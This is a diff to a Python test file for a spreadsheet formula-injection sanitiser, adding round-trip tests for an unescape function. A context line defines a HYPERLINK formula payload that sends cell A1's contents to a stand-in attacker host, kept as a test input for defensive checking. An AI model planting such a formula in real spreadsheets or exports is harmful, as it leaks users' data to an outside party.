@@ -10,7 +10,7 @@ from decimal import Decimal
 import openpyxl
 import pytest
 
-from spreadsheet_safe import FORMULA_TRIGGERS, safe_cell, safe_row
+from spreadsheet_safe import FORMULA_TRIGGERS, safe_cell, safe_row, unescape_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
 
@@ -31,7 +31,7 @@ def test_every_owasp_trigger_is_covered() -> None:
 
 @pytest.mark.parametrize("text", [
     "", "Çelik vida ğüşıöİ – M8×20", "ŞĞİ=", "a=b", "BOLT-8", "12345", "1-2",
-    "'=already text", " =1+1", "\n=1+1", "İstanbul", "#REF!",
+    " =1+1", "\n=1+1", "İstanbul", "#REF!",
 ])
 def test_other_text_is_left_verbatim(text: str) -> None:
     assert safe_cell(text) == text
@@ -86,3 +86,17 @@ def test_in_xlsx_neutralised_text_is_a_string_cell_and_numbers_stay_numbers() ->
     assert loaded["B2"].value == "'=ŞĞİ"
     assert loaded["C2"].value == -2
     assert loaded["E2"].value is None
+
+
+@pytest.mark.parametrize("text", [
+    "=SUM(A1)", "'=already text", "''=two", "-5", "@x", "'plain", "plain", "", "'"])
+def test_unescape_gives_back_what_safe_cell_wrote(text: str) -> None:
+    written = safe_cell(text)
+    assert isinstance(written, str)
+    assert unescape_cell(written) == text
+
+
+def test_an_apostrophe_before_a_formula_character_is_kept_one_deeper() -> None:
+    assert safe_cell("'=already text") == "''=already text"
+    assert unescape_cell("'=SUM(A1)") == "=SUM(A1)"
+    assert unescape_cell("'plain") == "'plain"
